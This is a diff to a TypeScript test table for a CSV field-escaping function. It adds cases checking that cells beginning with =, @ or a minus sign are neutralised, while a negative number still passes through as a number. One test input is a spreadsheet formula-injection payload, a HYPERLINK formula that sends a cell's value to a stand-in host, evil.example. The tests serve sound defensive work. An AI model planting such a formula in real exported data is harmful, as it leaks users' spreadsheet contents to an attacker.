@@ -19,6 +19,10 @@ describe.each<[string, Parameters<typeof csvField>[0], string]>([
   ['a trailing space inside quotes', 'Ambon ', '"Ambon "'],
   ['non-ASCII text as it is', 'Kota Bau-Bau — Sulawesi Tenggara', 'Kota Bau-Bau — Sulawesi Tenggara'],
   ['a boolean as text', true, 'true'],
+  ['a formula as text a spreadsheet will not run', '=HYPERLINK("http://evil.example/?leak="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"`],
+  ['text starting with @ as text', '@SUM(A1)', "'@SUM(A1)"],
+  ['text starting with a minus as text', '-Dinas', "'-Dinas"],
+  ['a negative number given as text still as a number', '-3.5', '-3.5'],
 ])('csvField', (what, value, expected) => {
   it(`writes ${what}`, () => {
     expect(csvField(value)).toBe(expected)
